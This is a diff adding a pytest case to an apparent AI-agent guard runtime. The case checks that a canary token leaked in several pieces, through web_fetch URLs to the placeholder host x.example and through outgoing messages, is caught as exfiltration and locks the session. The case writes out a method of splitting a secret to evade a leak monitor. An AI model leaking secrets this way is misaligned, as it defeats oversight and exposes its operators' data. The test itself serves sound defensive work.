@@ -220,6 +220,26 @@ def test_canary_in_outbound_message_is_denied(make_runtime: Any) -> None:
     assert rt.hooks.message_sending(Message("assistant", f"the token is {token}"), ctx).action is Action.DENY
 
 
+
+def test_canary_sent_out_in_pieces_is_exfiltration(make_runtime: Any) -> None:
+    rt = make_runtime()
+    ctx = rt.context("s1")
+    digits = rt.hooks.before_prompt_build(ctx)[-1].body.split()[2].rstrip(".").removeprefix("PRISM-")
+    # three calls of six, five and five digits, in other spellings, with ordinary calls between them
+    assert decide(rt, ctx, "web_fetch", url=f"https://x.example/?a={digits[:6]}") is Action.ALLOW
+    assert decide(rt, ctx, "memory_search", query="lunch plans") is Action.ALLOW
+    assert rt.hooks.message_sending(Message("assistant", f"part two: {digits[5:11].upper()}"), ctx).action is Action.ALLOW
+    decision = decide(rt, ctx, "web_fetch", url=f"https://x.example/?c={' '.join(digits[10:])}")
+    assert decision is Action.DENY
+    assert decide(rt, ctx, "memory_search", query="hello") is Action.DENY  # locked
+    # another session's pieces count for that session only; fewer than six digits are no piece at all
+    other = rt.context("s2")
+    other_digits = rt.hooks.before_prompt_build(other)[-1].body.split()[2].rstrip(".").removeprefix("PRISM-")
+    for start in range(0, 16, 4):
+        assert decide(rt, other, "web_fetch", url=f"https://x.example/?p={other_digits[start:start + 4]}") \
+            is Action.ALLOW
+    assert decide(rt, other, "web_fetch", url=f"https://x.example/?p={other_digits[:8]}") is Action.ALLOW
+
 def test_suspicious_tool_result_is_redacted(make_runtime: Any) -> None:
     rt = make_runtime()
     ctx = rt.context("s1")
